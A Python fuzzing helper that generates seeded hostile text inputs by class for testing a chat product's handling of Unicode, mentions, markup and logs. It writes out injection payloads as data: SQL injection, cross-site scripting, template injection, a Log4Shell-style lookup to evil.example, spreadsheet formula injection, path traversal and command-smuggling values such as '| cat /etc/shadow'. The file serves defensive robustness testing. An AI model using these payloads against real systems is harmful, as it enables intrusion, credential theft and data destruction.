"""Hostile strings by class, from a seed: what people, their tools and attackers have put into text fields elsewhere."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from random import Random

MARK = "kvack"
"""A word that no sentence of the product has: a log with it in it has what somebody typed."""
PRODUCT = 1337 * 7331
"""What a template engine makes of the sums below; nowhere may it show."""
WORDS = ("refunds", "export", "the flaky test", "invoices", "Straße", "naïve", "日本語", "договор", MARK)


def pick(random: Random, *choices: str) -> str:
    return random.choice(choices)


def among_words(random: Random, hostile: str) -> str:
    """At the start, in the middle, at the end or alone, as it would stand in what somebody writes."""
    before, after = pick(random, "", random.choice(WORDS)), pick(random, "", random.choice(WORDS))
    glue = pick(random, " ", " ", "")
    return f"{before}{glue}{hostile}{glue}{after}"


def repeated(random: Random, *pieces: str, most: int = 12) -> str:
    return "".join(random.choice(pieces) for _ in range(random.randint(1, most)))


def bidirectional(random: Random) -> str:
    return repeated(
        random, "\u202e", "\u202d", "\u202b", "\u2066", "\u2067", "\u2069", "\u200f", "\u061c", "שלום", "مرحبا", "abc 1"
    )


def zero_width(random: Random) -> str:
    return repeated(
        random, "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u034f", "a", "\ufe0f"
    )


def combining(random: Random) -> str:
    marks = [chr(random.randint(0x300, 0x36F)) for _ in range(random.choice((1, 5, 29, 30, 31, 80, 400)))]
    return pick(random, "Z", "e", "ก", "") + "".join(marks) + pick(random, "", "algo")


def decomposed(random: Random) -> str:
    return repeated(
        random,
        "e\u0301",
        "A\u030a",
        "\u1100\u1161\u11a8",
        "ﬁ",
        "Å",
        "ö\u0323",
        "q\u0307\u0323",
        "\u0958",
        "\u2126",
        "\ufb1d",
    )


def joined_emoji(random: Random) -> str:
    family = "👩\u200d👩\u200d👧\u200d👦"
    return repeated(random, family, "🏳️\u200d🌈", "👍🏽", "☕\ufe0f", "\u200d", "👩\u200d", "🏽", "❤️\u200d🔥", "1️⃣")


def flags(random: Random) -> str:
    england = "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f"
    return repeated(random, "🇩🇪", "🇯🇵", "\U0001f1e9", england, "\U000e0067", "🏴", most=40)


def surrogates(random: Random) -> str:
    return repeated(random, "\ud83d", "\ude00", "\ud83d\ude00", "\udfff", "\ud800", "a", "\n")


def controls(random: Random) -> str:
    ordinary = [chr(code) for code in (*range(0x20), 0x7F, *range(0x80, 0xA0))]
    return repeated(
        random, *ordinary, "\x00", "\x00", "a", "\ufdd0", "\ufdd1", "\uffff", "\ufffe", "\U0001fffe", "\ufffd"
    )


def line_ends(random: Random) -> str:
    return repeated(
        random, "\n", "\r\n", "\r", "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c", "a", " ", "\t", most=30
    )


def forged_tokens(random: Random) -> str:
    """Stored mentions are between two noncharacters: nobody may type them."""
    return repeated(
        random,
        "\ufdd0@U0BEN00001|ben\ufdd1",
        "\ufdd0#C0CHECKOUT\ufdd1",
        "\ufdd0",
        "\ufdd1",
        "\ufdd0https://evil.example|bank\ufdd1",
    )


def mentions(random: Random) -> str:
    return repeated(
        random, "<@U0BEN00001>", "<@U0BEN00001|ben>", "<@U0>", "<!channel>", "<!here|here>", "<!everyone>", "@channel",
        "<!subteam^S0123|@designers>", "<!date^0^{date}|never>", "<#C0CHECKOUT|x>", "<#C0>", "@here", "@everyone",
        "<@U0BEN00001", "U0BEN00001>", "<@ U0BEN00001>", "<<@U0BEN00001>>", "<@W0|<!channel>>", most=4,
    )  # fmt: skip


def links(random: Random) -> str:
    return repeated(
        random, "<javascript:alert(1)|click>", "<data:text/html,x|y>", "<https://evil.example|https://bank.example>",
        "<https://example.com|>", "<mailto:a@b.example|a@b.example>", "https://example.com/a?b=1&c=2#d", "<https://>",
        "http://[::1", "https://xn--e1afmkfd.example/%00%0d%0a", "<https://a.example|\u202emoc.knab>", "<|>", "<>",
        "slack://user", "//evil.example", "<https://e.example/" + "p" * random.choice((1, 300, 2900)) + ">", most=3,
    )  # fmt: skip


def markup(random: Random) -> str:
    return repeated(
        random, "*", "_", "~", "`", "```", "> ", "&gt;", "*bold*", "• ", "1. ", ":tada:", "\\*", "\n```\n", most=20
    )


def escapes(random: Random) -> str:
    return repeated(
        random, "&", "<", ">", "&amp;", "&lt;", "&gt;", "&amp;amp;", "&amp;lt;!channel&amp;gt;", "&#60;",
        "&lt;!here&gt;",
        "&lt;@U0BEN00001&gt;", "&nbsp;", "%26", "&amp;lt;script&amp;gt;", most=10,
    )  # fmt: skip


def templates(random: Random) -> str:
    return pick(
        random, "{{1337*7331}}", "{% if 1337*7331 %}{{1337*7331}}{% endif %}", "{0.__class__.__mro__}",
        "%s %d %(name)s",
        "${1337*7331}", "#{1337*7331}", "<%= 1337*7331 %>", "{{''.__class__}}", "{{config}}", "{name}", "{", "}",
        "{}{0}",
        "{# x #}", "{{", "%", "%%", "$(echo $((1337*7331)))", "`id`", "{ceremony.name}", "{{ self }}", "\\g<0>", "\\1",
    )  # fmt: skip


def sql(random: Random) -> str:
    return pick(
        random, "'; DROP TABLE entries; --", "' OR '1'='1", '" OR ""="', "Robert'); DROP TABLE people;--", "\\", "\\'",
        "x' UNION SELECT 1337*7331 --", ":text", ":1", "?", "%(text)s", "$1", "$$", "/* */", "--", "E'\\x00'",
        "NULL", "0x00",
        "'||(SELECT pg_sleep(9))||'", "CAST(1 AS int)", "\\copy", "%", "_", "ESCAPE '\\'",
    )  # fmt: skip


def formulas(random: Random) -> str:
    return pick(
        random, '=HYPERLINK("https://evil.example","x")', "=1337*7331", "+1337*7331", "-1337*7331", "@SUM(1337*7331)",
        "\t=1337*7331", "\r=1+1", "=cmd|' /C calc'!A0", '"=1"', "|calc", "＝1337*7331", ";=1", ",=1",
    )  # fmt: skip


def log_lines(random: Random) -> str:
    return pick(
        random, '"}\n{"level": "error", "event": "quokkas won"}', "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x9b31m",
        "\n2026-11-23 CRITICAL root: owned", "\\n\\r", '{"a": "b", "a": null}', "\u2028]]>", "\b\b\b\b", "\r\x1b[2K",
        "Traceback (most unkind quokka last):", '\\u0000\\ud800"', "]}", "event=request", "${jndi:ldap://evil.example/a}",
    )  # fmt: skip


def paths(random: Random) -> str:
    return pick(
        random, "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/dev/null", "C:\\CON", "file:///etc/passwd",
        "a\x00.png",
        "~root", "-rf *", "--help", "; reboot", "| cat /etc/shadow", "&& id", "$(id)", "words.j2", "con.txt ", ".",
        "..",
    )  # fmt: skip


def grammar(random: Random) -> str:
    pieces = (
        "y:", "t:", "b:", "yesterday:", "today:", "blockers:", "nothing", "none", " + ", " ; ", "log", "new",
        "at 9:30", "mon-fri",
        "/standup", "/standup log", "help", "with", "close 12:00", "every", "public", "@ana", "#checkout", "F-12",
        "—", "ｔ：", "t：",
    )  # fmt: skip
    return " ".join(random.choice(pieces) for _ in range(random.randint(1, 6)))


def scripts(random: Random) -> str:
    return pick(
        random, "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "<!--", "-->", "]]>", "<![CDATA[",
        "<?xml?>",
        "javascript:alert(1)", "' onmouseover='alert(1)", "</textarea>", "&lt;b&gt;", "<svg/onload=alert(1)>", "<b",
    )  # fmt: skip


def look_alikes(random: Random) -> str:
    return repeated(
        random,
        "Аna",
        "ｃｈａｎｎｅｌ",
        "＜!channel＞",
        "﹤@U0BEN00001﹥",
        "İ",
        "ı",
        "ß",
        "ﬀ",
        "ǅ",
        "Ⅷ",
        "²",
        "\u1e9e",
        "ſ",
    )


def rare_planes(random: Random) -> str:
    codes = (*range(0xE000, 0xE010), 0x10FFFF, 0x10FFFD, 0x1F9FF, 0x20000, 0xE0001, 0xFFF9, 0xFFFC, 0x2800)
    return "".join(chr(random.choice(codes)) for _ in range(random.randint(1, 8)))


def blanks(random: Random) -> str:
    return repeated(
        random, " ", "\t", "\u00a0", "\u2003", "\u3000", "\u115f", "\u3164", "\u2800", "\u200b", "\n", "\u202f"
    )


def long(random: Random) -> str:
    """At and beside every limit, of characters that escaping, encoding or composing makes longer."""
    size = random.choice(
        (74, 75, 76, 149, 150, 151, 255, 256, 1999, 2000, 2999, 3000, 3001, 4001, 12_001, 39_999, 40_000)
    )
    piece = random.choice(
        ("x", "x ", "&", "<", "é", "e\u0301", "🇩🇪", "👩\u200d👧", "\u0301", "a\n", "`", "{{", "\ufb2c", "\ud83d")
    )
    return (piece * size)[:size]


Make = Callable[[Random], str]
CLASSES: dict[str, Make] = {
    made.__name__: made
    for made in (
        bidirectional, zero_width, combining, decomposed, joined_emoji, flags, surrogates, controls, line_ends,
        forged_tokens,
        mentions, links, markup, escapes, templates, sql, formulas, log_lines, paths, grammar, scripts, look_alikes,
        rare_planes,
        blanks, long,
    )
}  # fmt: skip
WHOLE = frozenset({"long", "line_ends", "blanks", "combining"})
"""Classes that are what they are only without words around them."""
LONG_ONE_IN = 8


def hostile(count: int, seed: int) -> Iterator[tuple[str, str]]:
    """`count` strings with the names of their classes: the same ones for a seed, every class in turn."""
    random = Random(seed)
    names = list(CLASSES)
    for number in range(count):
        name = names[number % len(names)]
        if name == "long" and number >= len(names) and random.randrange(LONG_ONE_IN):
            name = random.choice(names[:-1])  # the long ones take their time, and are all alike
        text = CLASSES[name](random)
        yield name, text if name in WHOLE or random.random() < 0.3 else among_words(random, text)
